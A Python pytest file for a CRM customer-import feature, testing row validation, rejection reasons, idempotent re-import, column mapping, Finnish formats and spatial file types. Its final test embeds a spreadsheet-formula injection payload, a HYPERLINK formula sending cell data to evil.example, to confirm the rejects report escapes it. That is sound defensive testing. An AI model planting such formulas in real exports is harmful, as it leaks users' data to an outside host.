"""An admin imports customer files: bad rows are set aside with a reason, nothing is lost."""

from __future__ import annotations

import csv

import geopandas as gpd
import pytest
from shapely.geometry import Point, Polygon

from geocrm.errors import InvalidInput, NotFound
from geocrm.ingest import import_customers, job_status, parse_column_map, rejects
from tests.ingest.customer_files import ESPLANADI, STATION, customers_like, write_csv


def test_good_rows_land_and_bad_rows_are_quarantined_with_line_and_reason(
    engine, city, clean, tmp_path
):
    good = [
        [f"T-{i}", f"Customer {i}", "person", "customer", "1200.50", "0.2", *STATION]
        for i in range(5)
    ]
    bad = [
        ["T-0", "Twice", "person", "customer", "1", "0.1", *STATION],  # line 7
        ["", "No id", "person", "customer", "1", "0.1", *STATION],  # line 8
        ["T-b1", "Bad stage", "person", "champion", "1", "0.1", *STATION],  # line 9
        ["T-b2", "Bad revenue", "person", "customer", "lots", "0.1", *STATION],
        ["T-b3", "Bad lat", "person", "customer", "1", "0.1", "120", STATION[1]],
        ["T-b4", "Bad churn", "person", "customer", "1", "1.5", *STATION],
        ["T-b5", "Bad kind", "robot", "customer", "1", "0.1", *STATION],
        ["T-b6", "Nowhere", "person", "customer", "1", "0.1", "", ""],
        ["T-b7", "Ragged"],
    ]
    path = write_csv(tmp_path / "customers.csv", good + bad)
    report = import_customers(engine, path, progress=False)
    assert (report.rows, report.inserted, report.updated, report.rejected) == (14, 5, 0, 9)
    landed = customers_like(engine, "T-")
    assert sorted(landed) == [f"T-{i}" for i in range(5)]
    assert landed["T-0"]["name"] == "Customer 0"  # the first of two duplicate ids wins
    assert landed["T-1"]["level"] == "provided"
    assert landed["T-1"]["lat"] == pytest.approx(STATION[0])
    assert landed["T-1"]["geocoded_address"]  # reverse-geocoded for display

    reasons = {r["line"]: r["reason"] for r in rejects(engine, report.import_id)}
    assert reasons[7] == "external_id T-0 already appears on line 2"
    assert reasons[8] == "external_id is empty"
    assert "not a ladder stage" in reasons[9]
    assert reasons[10] == "annual_revenue 'lots' is not a number"
    assert reasons[11] == "lat 120 is outside -90..90 (lat and lon may be swapped)"
    assert "outside 0..1" in reasons[12]
    assert "kind 'robot'" in reasons[13]
    assert "cannot be placed" in reasons[14]
    assert reasons[15] == "expected 8 fields, found 2"
    with report.rejects_file.open() as fh:
        report_rows = list(csv.DictReader(fh))
    assert [int(r["line"]) for r in report_rows] == list(range(7, 16))
    assert "Bad stage" in report_rows[2]["row"]
    status = job_status(engine, report.import_id)
    assert status["status"] == "succeeded" and status["rejected"] == 9


def test_reimport_changes_nothing_and_a_corrected_file_updates_what_it_corrects(
    engine, city, clean, tmp_path
):
    rows = [
        [f"T-{i}", f"Customer {i}", "business", "client", "500", "0.1", *ESPLANADI]
        for i in range(4)
    ]
    path = write_csv(tmp_path / "a.csv", rows)
    first = import_customers(engine, path, progress=False)
    before = customers_like(engine, "T-")
    again = import_customers(engine, path, progress=False)
    assert (again.inserted, again.updated, again.unchanged) == (0, 0, 4)
    assert customers_like(engine, "T-") == before  # not even updated_at moved
    rows[1][3], rows[2][4] = "partner", "750"
    corrected = import_customers(engine, write_csv(tmp_path / "b.csv", rows), progress=False)
    assert (corrected.inserted, corrected.updated, corrected.unchanged) == (0, 2, 2)
    after = customers_like(engine, "T-")
    assert after["T-1"]["stage"] == "partner" and after["T-2"]["revenue"] == 750
    assert after["T-0"] == before["T-0"] and first.inserted == 4


def test_columns_are_mapped_by_alias_or_by_map(engine, city, clean, tmp_path):
    header = ["Asiakasnumero", "Nimi", "Vaihe", "latitude", "longitude"]
    path = write_csv(
        tmp_path / "fi.csv",
        [["T-fi", "Oy Testi Ab", "client", *STATION]],
        header=header,
        delimiter=";",
    )
    with pytest.raises(InvalidInput, match="no column for external_id"):
        import_customers(engine, path, progress=False)
    mapping = parse_column_map(["Asiakasnumero=external_id", "Nimi=name", "Vaihe=stage"])
    report = import_customers(engine, path, column_map=mapping, progress=False)
    assert report.inserted == 1
    assert customers_like(engine, "T-fi")["T-fi"]["stage"] == "client"
    with pytest.raises(InvalidInput, match="not customer fields"):
        import_customers(engine, path, column_map={"Nimi": "nickname"}, progress=False)
    with pytest.raises(InvalidInput, match="SOURCE=TARGET"):
        parse_column_map(["Nimi"])


def test_decimal_commas_and_finnish_dates_are_read(engine, city, clean, tmp_path):
    header = ["external_id", "name", "annual_revenue", "relationship_start", "lat", "lon"]
    path = write_csv(
        tmp_path / "excel.csv",
        [
            ["T-x1", "Comma", "1 234,50", "3.4.2021", "60,1710", "24,9415"],
            ["T-x2", "Bad date", "10", "31.2.2021", *STATION],
            ["T-x3", "Huge", "1" + "0" * 400, "", *STATION],  # must not overflow the import
        ],
        header=header,
        delimiter=";",
    )
    report = import_customers(engine, path, progress=False)
    assert (report.inserted, report.rejected) == (1, 2)
    row = customers_like(engine, "T-x1")["T-x1"]
    assert row["revenue"] == 1234.5 and row["lat"] == pytest.approx(60.171)
    reasons = [r["reason"] for r in rejects(engine, report.import_id)]
    assert "31.2.2021" in reasons[0] and "is not a number" in reasons[1]


@pytest.mark.parametrize("suffix", ["gpkg", "geojson", "parquet"])
def test_spatial_formats_import_points_and_refuse_other_shapes(
    engine, city, clean, tmp_path, suffix
):
    frame = gpd.GeoDataFrame(
        {"external_id": ["T-g1", "T-g2", "T-g3"], "name": ["Point", "Shape", "Projected"]},
        geometry=[
            Point(STATION[1], STATION[0]),
            Polygon([(24.94, 60.17), (24.95, 60.17), (24.95, 60.18)]),
            Point(ESPLANADI[1], ESPLANADI[0]),
        ],
        crs="EPSG:4326",
    )
    path = tmp_path / f"customers.{suffix}"
    if suffix == "parquet":
        frame.to_crs("EPSG:3067").to_parquet(path)  # Finnish national grid: reprojected back
    else:
        frame.to_file(path)
    report = import_customers(engine, path, progress=False)
    assert (report.inserted, report.rejected) == (2, 1)
    assert "Polygon, not a Point" in rejects(engine, report.import_id)[0]["reason"]
    landed = customers_like(engine, "T-g")
    assert landed["T-g3"]["lat"] == pytest.approx(ESPLANADI[0], abs=1e-6)
    assert landed["T-g3"]["lon"] == pytest.approx(ESPLANADI[1], abs=1e-6)


def test_unreadable_files_are_clear_errors(engine, tmp_path):
    with pytest.raises(NotFound):
        import_customers(engine, tmp_path / "missing.csv", progress=False)
    with pytest.raises(InvalidInput, match="unsupported file type"):
        import_customers(engine, write_csv(tmp_path / "x.xlsx", []), progress=False)
    (tmp_path / "empty.csv").write_text("")
    with pytest.raises(InvalidInput, match="empty"):
        import_customers(engine, tmp_path / "empty.csv", progress=False)
    (tmp_path / "latin1.csv").write_bytes("external_id,name\nT-l,J\xe4rvinen\n".encode("latin-1"))
    with pytest.raises(InvalidInput, match="not UTF-8"):
        import_customers(engine, tmp_path / "latin1.csv", progress=False)


def test_the_rejects_report_carries_no_live_formula(engine, city, clean, tmp_path):
    formula = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
    bad = [
        ["T-f1", "Fine", "person", "customer", "1", "0.1", *STATION],
        [formula, "Bad stage", "person", "champion", "1", "0.1", *STATION],
        ["@SUM(1)", "Bad revenue", "person", "customer", "=1+1", "0.1", *STATION],
    ]
    report = import_customers(engine, write_csv(tmp_path / "f.csv", bad), progress=False)
    assert report.rejected == 2
    with report.rejects_file.open(newline="") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert "'" + formula in cells and "'@SUM(1)" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
